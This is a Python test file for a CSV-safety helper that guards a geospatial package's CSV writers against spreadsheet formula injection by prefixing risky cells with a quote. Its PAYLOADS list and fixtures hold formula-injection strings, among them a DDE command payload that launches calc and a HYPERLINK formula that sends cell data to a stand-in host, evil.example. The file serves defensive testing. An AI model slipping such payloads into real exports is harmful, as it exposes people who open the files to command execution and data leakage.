"""Tests for geo.csv_safety and its use by every CSV writer of geo (issue 14, defect 11).

Each writer is tested through the file it writes, read back with the csv module: a cell a
spreadsheet would run as a formula starts with ``'``, plain numbers are untouched.
"""
from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import geopandas as gpd
import shapely

from geo.csv_safety import neutralize_formula, neutralize_frame
from geo.exports import export_frame
from geo.measurements import read_measurements, template_csv

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+1",
            "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1", "=1+1"]
PLAIN = ["-95.5", "-95", "+62", "-1e-3", "-95,5", "Telkomsel", "4G", "", "1.665", "a=b"]


def read_csv(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle, delimiter=";" if path.name.endswith(".scsv") else ","))


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_text_gets_a_leading_quote(value):
    assert neutralize_formula(value) == "'" + value


@pytest.mark.parametrize("value", [*PLAIN, -95.5, 3, None, True, np.nan])
def test_numbers_and_plain_text_are_unchanged(value):
    result = neutralize_formula(value)
    assert result is value or (result != result and value != value)  # noqa: PLR0124 (NaN)


def test_frame_changes_only_risky_text_cells():
    frame = pd.DataFrame({
        "operator": ["=HYPERLINK(1)", "Telkomsel", None, "-1+1"],
        "signal_dbm": [-95.5, -101.0, np.nan, -80.0],
        "raw_signal": ["-95.5", "-101", "", "+1+1"],
        "mixed": [1, "@x", 2.5, None],
    })
    safe = neutralize_frame(frame)
    assert safe["operator"].tolist()[::3] == ["'=HYPERLINK(1)", "'-1+1"]
    assert safe["operator"].iloc[1] == "Telkomsel" and pd.isna(safe["operator"].iloc[2])
    pd.testing.assert_series_equal(safe["signal_dbm"], frame["signal_dbm"])
    assert safe["raw_signal"].tolist() == ["-95.5", "-101", "", "'+1+1"]
    assert safe["mixed"].tolist()[:3] == [1, "'@x", 2.5]
    assert frame["operator"].iloc[0] == "=HYPERLINK(1)"  # the input is not modified


def test_column_names_are_neutralised():
    frame = pd.DataFrame({"=HYPERLINK(1)": ["x"], "latitude": [1.6], "-2": [1]})
    assert list(neutralize_frame(frame).columns) == ["'=HYPERLINK(1)", "latitude", "-2"]
    assert list(frame.columns) == ["=HYPERLINK(1)", "latitude", "-2"]


def test_rejected_rows_csv_is_neutralised(tmp_path):
    header = "latitude,longitude,timestamp,operator,technology,signal_dbm,no_service"
    rows = [f"95,101.4,2024-03-01T08:00:00,{payload.replace(',', ' ')},4G,-95.5,false"
            for payload in ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)")]
    rows.append('95,101.4,2024-03-01T08:00:00,"=HYPERLINK(""http://x"",""y"")",4G,-95.5,false')
    path = tmp_path / "tim.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    batch = read_measurements(path, now=datetime(2024, 6, 1, tzinfo=UTC))
    out = read_csv(batch.write_rejected_csv(tmp_path / "rejected.csv"), "utf-8-sig")
    operators = [row[4] for row in out[1:]]
    assert operators == ["'=cmd|' /C calc'!A0", "'+1+1", "'-1+1", "'@SUM(A1)",
                         "'=HYPERLINK(\"http://x\",\"y\")"]
    assert {row[6] for row in out[1:]} == {"-95.5"}  # plain negative numbers stay numbers
    assert all(not cell.startswith(("=", "+", "-", "@")) or cell == "-95.5"
               for row in out for cell in row)


def test_csv_export_is_neutralised(tmp_path):
    frame = gpd.GeoDataFrame(
        {"nama": ["=cmd|' /C calc'!A0", "Puskesmas"], "operator": ["+1+1", "@x"],
         "signal_dbm": [-95.5, -101.0]},
        geometry=[shapely.Point(101.4, 1.6), shapely.Point(101.5, -1.7)], crs="EPSG:4326")
    rows = read_csv(export_frame(frame, tmp_path / "out.csv"))
    assert rows[0][:3] == ["nama", "operator", "signal_dbm"]
    assert [row[:3] for row in rows[1:]] == [["'=cmd|' /C calc'!A0", "'+1+1", "-95.5"],
                                            ["Puskesmas", "'@x", "-101.0"]]
    assert rows[2][-1] == "-1.7"  # a negative latitude is a number, not a formula


def test_template_has_no_formula_cells_and_keeps_its_numbers():
    rows = list(csv.reader(template_csv().splitlines()))
    cells = [cell for row in rows for cell in row]
    assert "-95" in cells and not any(c.startswith(("'", "=", "+", "@")) for c in cells)
